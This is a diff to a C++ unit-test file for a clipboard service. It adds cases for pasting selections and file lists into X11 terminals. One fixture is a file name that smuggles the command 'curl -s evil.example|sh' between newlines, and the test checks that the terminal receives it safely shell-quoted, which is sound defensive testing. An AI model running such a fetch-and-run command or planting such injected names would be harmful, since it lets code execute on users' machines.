@@ -448,8 +448,9 @@ TEST_F(ClipboardServiceTest, PlainTextSettingDecidesWhatIsWritten)
 }
 
 // Control+V is a control character in a terminal: each kind of window gets the keys that paste there. A
-// terminal that pastes the selection reads the item from it; the person's own selection is theirs again
-// afterwards, unless they selected something else meanwhile.
+// terminal that pastes the selection reads the item from it, however long it takes to read and whoever
+// else reads first; the person's own selection is theirs again once the terminal has read it, unless they
+// selected something else meanwhile. A file list reaches it as words for the shell.
 TEST_F(ClipboardServiceTest, EachWindowClassGetsTheKeysThatPasteThere)
 {
     struct Row {
@@ -458,13 +459,21 @@ TEST_F(ClipboardServiceTest, EachWindowClassGetsTheKeysThatPasteThere)
         bool selectionAvailable;
         std::optional<KeyChord> chord; // none: nothing is pressed
         std::optional<QString> selectedBefore;
-        double targetReadsAt; // when the target reads the selection, seconds after the paste began
+        std::optional<double> targetReadsAt; // seconds after the paste began; none: it never reads
         std::optional<QString> selectedMeanwhile; // what another program selects at 0.1 s, if anything
         std::optional<QString> selectedAfter;
+        bool otherReadsFirst = false; // another program reads the selection at 0.05 s
+        const char *terminalReads = nullptr; // where not the item's text
     };
     const ClipboardItem image = makeItem(ClipboardItemType::image, QString(), {rep(PasteboardType::png, "PNG")});
+    const QByteArray evilName("/home/u/report\ncurl -s evil.example|sh\n.pdf");
+    const ClipboardItem evilFile =
+        makeItem(ClipboardItemType::file, QString::fromUtf8(evilName),
+                 {rep(PasteboardType::uriList, QUrl::fromLocalFile(QString::fromUtf8(evilName)).toEncoded() + "\r\n"),
+                  rep(PasteboardType::plainText, evilName)});
     const QString mine = QStringLiteral("mine");
     const QString theirs = QStringLiteral("theirs");
+    const QString itemText = older.text();
     const Row rows[] = {
         {"gedit", older, true, KeyChord::paste(), mine, 0.01, std::nullopt, mine},
         {"XTerm", older, true, KeyChord::selectionPaste(), std::nullopt, 0.01, std::nullopt, std::nullopt},
@@ -472,6 +481,11 @@ TEST_F(ClipboardServiceTest, EachWindowClassGetsTheKeysThatPasteThere)
         {"URxvt", older, true, KeyChord::selectionPaste(), mine, 0.01, std::nullopt, mine},
         {"XTerm", older, true, KeyChord::selectionPaste(), mine, 0.01, theirs, theirs},
         {"XTerm", older, true, KeyChord::selectionPaste(), mine, 0.5, std::nullopt, mine},
+        {"XTerm", older, true, KeyChord::selectionPaste(), mine, 1.5, std::nullopt, mine},
+        {"XTerm", older, true, KeyChord::selectionPaste(), mine, std::nullopt, std::nullopt, itemText},
+        {"XTerm", older, true, KeyChord::selectionPaste(), mine, 1.5, std::nullopt, mine, true},
+        {"XTerm", evilFile, true, KeyChord::selectionPaste(), mine, 0.01, std::nullopt, mine, false,
+         "$'/home/u/report\\x0acurl -s evil.example|sh\\x0a.pdf'"},
         {"XTerm", older, false, std::nullopt, std::nullopt, 0.01, std::nullopt, std::nullopt},
         {"XTerm", image, true, std::nullopt, mine, 0.01, std::nullopt, mine},
         {"Xfce4-terminal", older, true, KeyChord::terminalPaste(), std::nullopt, 0.01, std::nullopt, std::nullopt},
@@ -480,7 +494,7 @@ TEST_F(ClipboardServiceTest, EachWindowClassGetsTheKeysThatPasteThere)
     };
     for (const Row &row : rows) {
         SCOPED_TRACE(row.windowClass);
-        SCOPED_TRACE(row.targetReadsAt);
+        SCOPED_TRACE(row.targetReadsAt.value_or(-1));
         SimPlatform platform;
         platform.primarySelection.available = row.selectionAvailable;
         platform.primarySelection.select(row.selectedBefore);
@@ -489,19 +503,23 @@ TEST_F(ClipboardServiceTest, EachWindowClassGetsTheKeysThatPasteThere)
         PasteboardManager manager(platform.clock, platform.pasteboard, &platform.workspace);
         ClipboardService pasting(platform.platform(), manager);
         std::optional<QString> targetRead;
-        platform.clock.callAfter(row.targetReadsAt, [&] { targetRead = platform.primarySelection.readByOther(); });
+        if (row.targetReadsAt)
+            platform.clock.callAfter(*row.targetReadsAt, [&] { targetRead = platform.primarySelection.readByOther(app.pid); });
+        if (row.otherReadsFirst)
+            platform.clock.callAfter(0.05, [&] { platform.primarySelection.readByOther(app.pid + 1); });
         if (row.selectedMeanwhile)
             platform.clock.callAfter(0.1, [&] { platform.primarySelection.select(row.selectedMeanwhile); });
 
         Task<bool> paste = pasting.paste(row.item, target(app));
-        platform.clock.advance(2);
+        platform.clock.advance(5);
         EXPECT_EQ(paste.result(), std::optional<bool>(row.chord.has_value()));
         ASSERT_EQ(platform.keyboard.chords.size(), row.chord ? 1 : 0);
         if (row.chord) {
             EXPECT_EQ(platform.keyboard.chords.first().chord, *row.chord);
         }
-        if (row.chord == KeyChord::selectionPaste()) {
-            EXPECT_EQ(targetRead, row.item.text()) << "the terminal pastes the item, not the person's selection";
+        if (row.chord == KeyChord::selectionPaste() && row.targetReadsAt) {
+            const QString expected = row.terminalReads ? QString::fromUtf8(row.terminalReads) : row.item.text();
+            EXPECT_EQ(targetRead, expected) << "the terminal pastes the item, not the person's selection";
         }
         EXPECT_EQ(platform.primarySelection.text, row.selectedAfter);
         EXPECT_EQ(platform.pasteboard.writes.size(), 1) << "the item is on the clipboard in every case";
@@ -533,6 +551,7 @@ struct ContentCase {
     bool asPlainText;
     std::optional<QString> plainText;
     QList<QList<QPair<QString, QByteArray>>> payload;
+    bool intoTerminal = false;
 };
 
 TEST(ClipboardServicePasteContentTest, WhatEachKindOfItemWrites)
@@ -609,10 +628,22 @@ TEST(ClipboardServicePasteContentTest, WhatEachKindOfItemWrites)
          {{{QStringLiteral("application/x-thing"), "\x01\x02"}}}},
         {"an emptied image file gives nothing", emptiedBare, false, std::nullopt, {}},
         {"an emptied image file is not replaced by what came with it", emptiedCaptured, false, std::nullopt, {}},
+        {"into a terminal, a file list's text is its paths as shell words", files, false, std::nullopt,
+         {{{PasteboardType::uriList, "file:///tmp/a.txt\r\nfile:///tmp/b.txt\r\n"},
+           {PasteboardType::plainText, "/tmp/a.txt /tmp/b.txt"}}},
+         true},
+        {"into a terminal, a file manager's list without text", managerFiles, false, std::nullopt,
+         {{{PasteboardType::uriList, QByteArray("file:///tmp/report%20%C3%85.txt\r\nfile:///tmp/b\0", 47)},
+           {PasteboardType::gnomeCopiedFiles, "copy\nfile:///tmp/report%20%C3%85.txt\nfile:///tmp/b"},
+           {PasteboardType::plainText, QStringLiteral("'/tmp/report \u00c5.txt' /tmp/b").toUtf8()}}},
+         true},
+        {"into a terminal, a link stays as it was copied", link, false, std::nullopt,
+         {{{PasteboardType::plainText, "https://example.org/a"}, {PasteboardType::uriList, "https://example.org/a\r\n"}}},
+         true},
     };
     for (const ContentCase &c : cases) {
         SCOPED_TRACE(c.name);
-        const ClipboardPasteContent content = ClipboardService::pasteContent(c.item, c.asPlainText);
+        const ClipboardPasteContent content = ClipboardService::pasteContent(c.item, c.asPlainText, c.intoTerminal);
         EXPECT_EQ(content.plainText, c.plainText);
         QList<QList<QPair<QString, QByteArray>>> written;
         for (const PasteboardPayloadItem &item : content.payload.items) {
